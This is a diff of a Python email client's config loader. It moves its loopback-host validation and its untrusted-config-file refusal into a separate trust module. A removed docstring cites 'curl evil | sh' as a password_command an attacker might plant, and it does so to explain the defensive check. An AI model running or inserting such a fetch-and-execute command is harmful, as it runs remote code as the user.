@@ -9,13 +9,11 @@ live in the keyring or come from a command, never from this file.
 from __future__ import annotations
 
 import difflib
-import ipaddress
 import json
 import math
 import os
 import re
 import shlex
-import socket
 import stat
 import tomllib
 from collections.abc import Mapping, Sequence
@@ -24,6 +22,9 @@ from pathlib import Path
 from typing import Any, Final, Literal, NoReturn, cast
 
 from mailtui.config import paths
+from mailtui.config.trust import is_loopback as is_loopback  # re-exported
+from mailtui.config.trust import loopback_problem as loopback_problem  # re-exported
+from mailtui.config.trust import may_be_loopback, refuse_untrusted_file
 from mailtui.errors import ConfigError
 from mailtui.model import Address
 
@@ -247,57 +248,6 @@ class Settings:
                 f"{source}: no account named {name!r}{guess}; known accounts: {known}",
                 hint="use one of the known names, or add [accounts.NAME] to the config file",
             ) from None
-
-
-def _loopback_ip(text: str) -> bool | None:
-    """True/False for an IP literal (IPv4-mapped ::ffff:127.x counts), None for a name."""
-    try:
-        ip = ipaddress.ip_address(text.partition("%")[0])  # fe80::1%eth0: drop the zone
-    except ValueError:
-        return None
-    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
-        return ip.ipv4_mapped.is_loopback
-    return ip.is_loopback
-
-
-def _bare_host(host: str) -> str:
-    h = host.strip()
-    return h[1:-1] if h.startswith("[") and h.endswith("]") else h
-
-
-def _may_be_loopback(host: str) -> bool:
-    """Config-time check, without DNS: a loopback literal, or the name "localhost"
-    (whose addresses `loopback_problem` checks when connecting)."""
-    h = _bare_host(host)
-    return bool(_loopback_ip(h)) or h.lower().rstrip(".") == "localhost"
-
-
-def loopback_problem(host: str) -> str:
-    """Why plaintext to `host` would leave this machine ("" when it would not).
-
-    Called when connecting: a loopback literal is fine; the name "localhost" is only a
-    promise (/etc/hosts or a resolver can point it anywhere), so it is resolved and
-    every address must be loopback. Any other name is refused without a lookup.
-    """
-    h = _bare_host(host)
-    literal = _loopback_ip(h)
-    if literal is not None:
-        return "" if literal else f"{h} is not a loopback address"
-    if h.lower().rstrip(".") != "localhost":
-        return f"{h} is a host name, not a loopback address (127.0.0.1, ::1)"
-    try:
-        infos = socket.getaddrinfo(h, None, type=socket.SOCK_STREAM)
-    except (OSError, UnicodeError) as exc:
-        return f"{h} cannot be resolved ({getattr(exc, 'strerror', None) or exc})"
-    outside = sorted({str(info[4][0]) for info in infos if not _loopback_ip(str(info[4][0]))})
-    if not infos or outside:
-        return f"{h} resolves to {', '.join(outside) or 'nothing'}, not only to loopback"
-    return ""
-
-
-def is_loopback(host: str) -> bool:
-    """True when plaintext to `host` stays on this machine; see `loopback_problem`."""
-    return not loopback_problem(host)
 
 
 # --- validation machinery -------------------------------------------------------------
@@ -629,7 +579,7 @@ def _server(src: _Source, key: str, raw: object, protocol: Protocol, email: str)
     host = _host(r)
     security = cast(Security, r.text("security", "tls", choices=SECURITIES))
     port = r.integer("port", DEFAULT_PORTS[(protocol, security)], 1, 65535)
-    if security == "none" and not _may_be_loopback(host):
+    if security == "none" and not may_be_loopback(host):
         src.fail(
             r.at("security"),
             f'"none" would send your password and mail unencrypted, so it is allowed only '
@@ -914,37 +864,6 @@ def _exposed_mode(st: os.stat_result | None) -> int | None:
     return mode if mode & 0o044 else None
 
 
-def _refuse_untrusted_file(label: str, st: os.stat_result) -> None:
-    """A config someone else can change is refused: its password_command runs as you.
-
-    Checked on the opened file (fstat), so what is checked is what is read. Owned by
-    another user, or writable by group or others, it could be edited into
-    `password_command = "curl evil | sh"` (aerc and OpenSSH refuse such files too).
-    """
-    if os.name != "posix":
-        return
-    mode = stat.S_IMODE(st.st_mode)
-    me = os.geteuid()
-    if st.st_uid != me:
-        raise ConfigError(
-            f"{label}: is owned by another user (uid {st.st_uid}, you are {me}), who could "
-            "change its commands (password_command) to run anything as you; refusing it",
-            hint=f"if the file is yours, run `chown {me} {label} && chmod 600 {label}`; "
-            "else copy it to a file of your own",
-        )
-    if mode & 0o022:
-        who = (
-            "group and others"
-            if mode & 0o022 == 0o022
-            else ("its group" if mode & 0o020 else "others")
-        )
-        raise ConfigError(
-            f"{label}: is writable by {who} (mode {mode:03o}), who could change its "
-            "commands (password_command) to run anything as you; refusing it",
-            hint=f"run `chmod 600 {label}`",
-        )
-
-
 def _toml_error(label: str, text: str, err: tomllib.TOMLDecodeError) -> ConfigError:
     """A TOML syntax error as "file, line L, column C: what"."""
     message = str(err)
@@ -977,7 +896,7 @@ def load_settings(path: Path | None = None, *, cli_path: str | None = None) -> S
     try:
         with path.open("rb") as file:
             st = os.fstat(file.fileno())
-            _refuse_untrusted_file(label, st)
+            refuse_untrusted_file(label, st)
             raw = file.read()
     except FileNotFoundError:
         raise ConfigError(
